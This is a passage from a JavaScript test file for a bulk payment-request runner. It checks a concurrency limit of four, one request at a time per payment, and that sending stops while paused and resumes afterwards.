    assert.equal(sent, 0);
    assert.ok(rows.every(({ steps }) => steps.length === 0));
  });

  test("at most four at a time, one for a payment, and none while it is paused", async () => {
    const { rows } = await readRows(bulkFile(60));
    const now = new Map();
    let most = 0;
    let sent = 0;
    const send = async (plan) => {
      sent += 1;
      const key = plan.path + (JSON.parse(plan.body).payment_id ?? "");
      assert.ok(plan.provider !== "durianpay" || !now.get(key), "two at a time for one payment");
      now.set(key, (now.get(key) ?? 0) + 1);
      most = Math.max(
        most,
        [...now.values()].reduce((sum, count) => sum + count, 0),
      );
      await new Promise((resolve) => setTimeout(resolve, 2));
      now.set(key, now.get(key) - 1);
      return { kind: "verdict", told: { status: "succeeded", next: "done" } };
    };
    const destination = { repeatable: true, recallable: false, hasQuery: () => true, send, query: send };
    const store = memory(rows);
    const runner = createRunner({ rows, destination, store, includes: ({ index }) => index <= 50, changed: () => {} });
    const running = runner.start();
    await new Promise((resolve) => setTimeout(resolve, 10));
    await runner.pause();
    const before = sent;
    await running;
    await new Promise((resolve) => setTimeout(resolve, 20));
    assert.equal(sent, before);
    assert.ok(before < 50);
    await runner.start();
    assert.equal(sent, 50);
    assert.equal(most, 4);
    assert.equal(runner.left, 0);
  });
});
